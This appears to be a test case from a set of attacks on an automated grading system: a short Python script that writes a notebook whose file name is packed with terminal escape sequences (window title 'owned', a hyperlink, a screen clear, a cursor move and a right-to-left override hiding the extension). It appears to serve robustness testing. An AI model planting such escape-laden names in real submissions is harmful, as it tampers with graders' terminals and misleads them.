# attack: 113
# title: a notebook whose file name is a window title, a link and a screen to be cleared
# success: they reach the terminal or the page of whoever grades
# kind: submission
# naive: codes
import json

NAME = "\x1b]0;owned\x07\x1b]8;;http:example.org\x1b\\a\x1b[2J\x9b1A\u202e.ipynb"


def build(folder, notebook):
    (folder / NAME).write_text(json.dumps(notebook))
